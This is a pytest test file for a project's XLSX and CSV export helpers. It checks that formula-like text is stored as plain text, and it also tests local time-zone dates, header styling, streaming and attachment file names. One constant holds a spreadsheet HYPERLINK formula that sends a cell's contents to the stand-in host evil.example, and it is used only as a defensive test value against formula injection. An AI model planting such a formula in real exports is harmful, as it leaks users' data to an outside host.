import csv
import datetime as dt
import io
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from core.exports import Sheet, csv_response, iter_csv, xlsx_bytes, xlsx_response

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&B3,"Xem")'


def _book(*sheets: Sheet):  # noqa: ANN202
    return load_workbook(io.BytesIO(xlsx_bytes(list(sheets))))


def test_formula_like_text_comes_out_as_text_in_xlsx():
    values = [HOSTILE, "=1+1", "+84 912", "-5 ngày", "@SUM(A1)", "\tx", "\rx", "#N/A", "Nguyễn Văn Á"]
    sheet = _book(Sheet("Dữ liệu", ["Tên"], [[value] for value in values])).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # XML readers turn a carriage return into a line feed; the cell is text either way.
    assert [cell.value for cell in cells] == [value.replace("\r", "\n") for value in values]
    assert all(cell.data_type == "s" for cell in cells)
    assert [cell.quotePrefix for cell in cells[:7]] == [True] * 7
    assert cells[-1].quotePrefix is False


def test_numbers_stay_numbers_and_negative_numbers_are_not_touched():
    sheet = _book(Sheet("S", ["a", "b", "c"], [[-5, 2.5, True]])).active
    assert [cell.value for cell in sheet[2]] == [-5, 2.5, True]
    assert sheet["A2"].data_type == "n"


def test_aware_datetime_is_written_as_a_local_real_date(settings):
    settings.TIME_ZONE = "Asia/Ho_Chi_Minh"
    # 01:30 in Hà Nội on 2 March is still 1 March in UTC.
    completed = dt.datetime(2026, 3, 1, 18, 30, tzinfo=dt.UTC)
    sheet = _book(Sheet("S", ["Hoàn thành", "Hạn"], [[completed, dt.date(2026, 3, 5)]])).active
    assert sheet["A2"].value == dt.datetime(2026, 3, 2, 1, 30)
    assert sheet["A2"].is_date and sheet["A2"].number_format == "DD/MM/YYYY HH:MM"
    assert sheet["B2"].value == dt.datetime(2026, 3, 5) and sheet["B2"].number_format == "DD/MM/YYYY"


def test_header_is_bold_frozen_filtered_and_columns_have_widths():
    rows = [["Trần Thị Bích Ngọc Hương", 3], ["An", 12]]
    sheet = _book(Sheet("S", ["Họ và tên", "Số"], rows)).active
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold and not sheet["A2"].font.bold
    assert sheet.auto_filter.ref == "A1:B3"
    assert sheet.column_dimensions["A"].width >= len("Trần Thị Bích Ngọc Hương")
    assert 8 <= sheet.column_dimensions["B"].width < sheet.column_dimensions["A"].width


def test_plain_sheet_has_no_header_styling_and_sheets_keep_their_order():
    book = _book(Sheet("Du lieu", ["Mã"], [["1"]]), Sheet("Danh muc", [], [["a"], ["b"]], header=False))
    assert book.sheetnames == ["Du lieu", "Danh muc"]
    lookup = book["Danh muc"]
    assert [row for row in lookup.iter_rows(values_only=True)] == [("a",), ("b",)]
    assert lookup.freeze_panes is None and lookup.auto_filter.ref is None


def test_rows_are_streamed_from_a_generator_beyond_the_width_sample():
    rows = ([f"Cán bộ {index}", index] for index in range(1000))
    sheet = _book(Sheet("S", ["Tên", "Số"], rows)).active
    assert sheet.max_row == 1001 and sheet["A1001"].value == "Cán bộ 999"
    assert sheet.auto_filter.ref == "A1:B1001"


def test_control_characters_do_not_break_the_export():
    sheet = _book(Sheet("S", ["Ghi chú"], [["dòng\x01 một\x1f"]])).active
    assert sheet["A2"].value == "dòng một"


def test_csv_neutralises_formulas_and_writes_local_dates(settings):
    settings.TIME_ZONE = "Asia/Ho_Chi_Minh"
    text = "".join(iter_csv(["Tên", "Lúc", "Ngày", "Số"], [
        [HOSTILE, dt.datetime(2026, 3, 1, 18, 30, tzinfo=ZoneInfo("UTC")), dt.date(2026, 3, 5), -3],
    ]))
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows == [["Tên", "Lúc", "Ngày", "Số"], ["'" + HOSTILE, "02/03/2026 01:30", "05/03/2026", "-3"]]


def test_responses_are_attachments_with_the_file_name():
    response = xlsx_response([Sheet("S", ["a"], [["=1+1"]])], filename="báo-cáo.xlsx")
    assert "attachment" in response["Content-Disposition"] and "b%C3%A1o-c%C3%A1o.xlsx" in response["Content-Disposition"]
    book = load_workbook(io.BytesIO(response.content))
    assert book.active["A2"].value == "=1+1" and book.active["A2"].data_type == "s"
    streamed = csv_response(["a"], [["@x"]], filename="a.csv")
    assert b"".join(streamed.streaming_content).decode("utf-8") == "\ufeffa\r\n'@x\r\n"
